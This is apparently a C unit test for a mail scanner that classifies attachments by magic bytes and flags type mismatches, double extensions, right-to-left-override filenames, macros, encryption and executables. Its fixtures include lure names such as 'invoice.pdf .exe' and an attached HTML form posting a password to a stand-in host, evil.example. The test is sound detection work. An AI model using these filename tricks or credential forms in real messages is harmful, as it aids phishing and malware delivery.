/* SPDX-License-Identifier: Apache-2.0 */
#include "content/magic.h"

#include "test/t.h"

/* A part: its fields and its content. */
static const struct {
	const char *label;
	struct span header, body;
	const char *want;	/* "name extension type size flags" */
} cases[] = {
	{ "pdf", SPAN_INIT("Content-Type: application/pdf; name=a.PDF\n"),
	    SPAN_INIT("%PDF-1.4 x"), "a.PDF pdf pdf 10 " },
	{ "pdf by name alone", SPAN_INIT("Content-Type: application/pdf\n"
	    "Content-Disposition: attachment; filename=\"a.pdf\"\n"),
	    SPAN_INIT("MZ\x90"), "a.pdf pdf exe 3 mismatch runs " },
	{ "double extension", SPAN_INIT("Content-Type: application/"
	    "octet-stream; name=\"invoice.pdf   .exe\"\n"), SPAN_INIT("MZ"),
	    "invoice.pdf .exe exe exe 2 double runs " },
	{ "turned round", SPAN_INIT("Content-Type: application/octet-stream\n"
	    "Content-Disposition: attachment; filename*=utf-8''an%E2%80%AEfdp"
	    ".exe\n"), SPAN_INIT("MZ"), "anfdp.exe exe exe 2 bidi runs " },
	{ "hidden in the name", SPAN_INIT("Content-Disposition: attachment;"
	    " filename=\"=?utf-8?Q?a=E2=80=8B.txt?=\"\n"), SPAN_INIT("x"),
	    "a.txt txt text 1 hidden " },
	{ "packed text", SPAN_INIT("Content-Type: application/gzip; name="
	    "a.txt.gz\n"), SPAN_INIT("\x1f\x8b\x08"), "a.txt.gz gz gzip 3 " },
	{ "docx", SPAN_INIT("Content-Type: application/vnd.openxmlformats-"
	    "officedocument.wordprocessingml.document; name=a.docx\n"),
	    SPAN_INIT("PK\3\4\x14\0\0\0 [Content_Types].xml"),
	    "a.docx docx ooxml 28 " },
	{ "docx with macros", SPAN_INIT("Content-Type: application/"
	    "octet-stream; name=a.docm\n"), SPAN_INIT("PK\3\4\x14\0\0\0 "
	    "[Content_Types].xml word/vbaProject.bin"),
	    "a.docm docm ooxml 48 macros runs " },
	{ "encrypted zip", SPAN_INIT("Content-Type: application/zip; name="
	    "a.zip\n"), SPAN_INIT("PK\3\4\x14\0\1\0 a.txt"),
	    "a.zip zip zip 14 encrypted " },
	{ "zip with a program, encrypted behind the first file", SPAN_INIT(
	    "Content-Type: application/zip; name=a.zip\n"), SPAN_INIT(
	    "PK\3\4\x14\0\0\0 a.txt PK\1\2\0\0\0\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0"
	    "\0\0\0\0\0\0\5\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0b.lnk"),
	    "a.zip zip zip 66 encrypted macros " },
	{ "encrypted docx", SPAN_INIT("Content-Type: a/b; name=a.docx\n"),
	    SPAN_INIT("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 E\0n\0c\0r\0y\0p\0t\0e"
	    "\0d\0P\0a\0c\0k\0a\0g\0e\0"), "a.docx docx ole 41 encrypted " },
	{ "old Word file with macros", SPAN_INIT("Content-Type: application/"
	    "msword; name=a.doc\n"), SPAN_INIT("\xd0\xcf\x11\xe0\xa1\xb1\x1a"
	    "\xe1 V\0B\0A\0"), "a.doc doc ole 15 macros " },
	{ "html that is called text", SPAN_INIT("Content-Type: text/plain; "
	    "name=a.txt\nContent-Disposition: attachment\n"),
	    SPAN_INIT("\n<HTML><body>"),
	    "a.txt txt html 13 mismatch runs " },
	{ "svg that is called png", SPAN_INIT("Content-Type: image/png; name="
	    "a.png\n"), SPAN_INIT("<?xml version=\"1.0\"?><svg>"),
	    "a.png png svg 26 mismatch runs " },
	{ "rar", SPAN_INIT("Content-Type: a/b; name=a.rar\n"),
	    SPAN_INIT("Rar!\x1a\7\1\0 abcd\4"), "a.rar rar rar 14 encrypted " },
	{ "shortcut", SPAN_INIT("Content-Type: a/b; name=a.pdf.lnk\n"),
	    SPAN_INIT("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"),
	    "a.pdf.lnk lnk lnk 20 double runs " },
	{ "notes", SPAN_INIT("Content-Type: a/b; name=a.one\n"), SPAN_INIT(
	    "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96"
	    "\xd3"), "a.one one one 16 runs " },
	{ "script", SPAN_INIT("Content-Type: a/b; name=a.js\n"),
	    SPAN_INIT("eval(1)"), "a.js js text 7 runs " },
	{ "pdf with a password and a program", SPAN_INIT("Content-Type: "
	    "application/pdf\n"), SPAN_INIT("%PDF-1 /Encrypt /JavaScript"),
	    "- - pdf 27 encrypted macros " },
	{ "7z", SPAN_INIT("Content-Type: a/b\n"),
	    SPAN_INIT("7z\xbc\xaf\x27\x1c"), "- - 7z 6 " },
	{ "elf", SPAN_INIT("Content-Type: a/b\n"), SPAN_INIT("\x7f" "ELF"),
	    "- - elf 4 runs " },
	{ "class file, Mach-O", SPAN_INIT("Content-Type: a/b\n"),
	    SPAN_INIT("\xca\xfe\xba\xbe\0\0\0\x34"), "- - jar 8 runs " },
	{ "image", SPAN_INIT("Content-Type: image/jpeg; name=a.png\n"),
	    SPAN_INIT("\xff\xd8\xff\xe0"), "a.png png jpeg 4 mismatch " },
	{ "empty", SPAN_INIT("Content-Type: application/pdf; name=a.pdf\n"),
	    SPAN_INIT(""), "a.pdf pdf empty 0 " },
	{ "message", SPAN_INIT("Content-Type: message/rfc822; name=a.eml\n"),
	    SPAN_INIT("Received: x\n\ny"), "a.eml eml eml 14 " },
	{ "page in UTF-16", SPAN_INIT("Content-Type: a/b; name=a.html\n"),
	    SPAN_INIT("\xff\xfe<\0h\0t\0m\0l\0>\0"),
	    "a.html html html 14 runs " },
	{ "program that is sent as text", SPAN_INIT("Content-Type: text/plain;"
	    " name=a.py\nContent-Disposition: attachment\n"),
	    SPAN_INIT("#!/usr/bin/python3\n"), "a.py py script 19 runs " },
	{ "patch", SPAN_INIT("Content-Type: text/x-patch; name=a.patch\n"),
	    SPAN_INIT("--- a\n"), "a.patch patch text 6 " },
};

static void
flag(struct buf *b, bool set, const char *word)
{
	if (set) {
		buf_str(b, word);
		buf_byte(b, ' ');
	}
}

static void
put(struct buf *b, struct span s)
{
	if (span_absent(s))
		buf_byte(b, '-');
	buf_put(b, s);
	buf_byte(b, ' ');
}

static struct span
show(struct buf *b, const struct content_attachment *f)
{
	put(b, f->name);
	put(b, f->extension);
	put(b, assay_cstr(content_type_name(f->type)));
	buf_u64(b, f->size);
	buf_byte(b, ' ');
	flag(b, f->mismatch, "mismatch");
	flag(b, f->double_extension, "double");
	flag(b, f->bidi_name, "bidi");
	flag(b, f->hidden_name && !f->bidi_name, "hidden");
	flag(b, f->encrypted, "encrypted");
	flag(b, f->macros, "macros");
	flag(b, f->runs, "runs");
	return buf_span(b);
}

static void
test_ends(struct arena *a)
{
	static const uint8_t abc[4] = { 0xba, 0x78, 0x16, 0xbf };
	static uint8_t big[200000];
	struct content_in in = { SPAN("Content-Type: a/b\nContent-Transfer-"
	    "Encoding: base64\n"), SPAN("YWJj\n") };
	struct content c;
	struct magic m;

	T_OK(content_read(&c, &in, a) && c.n_attachment == 1 &&
	    memcmp(c.attachment[0].sha256, abc, 4) == 0, "SHA-256");
	memset(big, 'x', sizeof(big));
	memcpy(big, "PK\3\4\x14\0\0\0", 8);
	memcpy(big + sizeof(big) - 40, "[Content_Types].xml vbaProject.bin",
	    34);
	in = (struct content_in){ SPAN("Content-Type: a/b\n"),
		{ big, sizeof(big) } };
	T_OK(content_read(&c, &in, a) && c.n_attachment == 1 &&
	    c.attachment[0].type == CONTENT_TYPE_OOXML &&
	    c.attachment[0].macros && c.attachment[0].size == sizeof(big),
	    "names at the end of a long file");
	memset(big, 0, 40000);
	memcpy(big + 32769, "CD001", 5);
	magic_read(&m, span_head((struct span){ big, sizeof(big) }, 40000),
	    SPAN_NONE);
	T_INT(m.type, CONTENT_TYPE_ISO, "a CD");
}

static void
test_page(struct arena *a)
{
	struct content_in in = { SPAN("Content-Type: text/html; name=a.html\n"
	    "Content-Disposition: attachment\n"), SPAN("<html><p>x<form "
	    "action=http://evil.example/><!-- y --><input type=password>") };
	struct content c;

	T_OK(content_read(&c, &in, a) && c.n_link == 1 &&
	    c.html.passwords == 1, "a page that is attached is read");
	T_OK(c.text.len == 0 && c.hidden.len == 0, "... and is no text");
}

int
main(void)
{
	struct arena a;

	arena_init(&a, 64 << 20);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct content_in in = { cases[i].header, cases[i].body };
		uint8_t room[300];
		struct buf b = BUF_ON(room);
		struct content c;

		T_OK(content_read(&c, &in, &a) && c.n_attachment == 1,
		    cases[i].label);
		if (c.n_attachment == 1)
			T_SPAN(show(&b, &c.attachment[0]),
			    assay_cstr(cases[i].want), cases[i].label);
	}
	test_ends(&a);
	test_page(&a);
	arena_free(&a);
	return t_done();
}
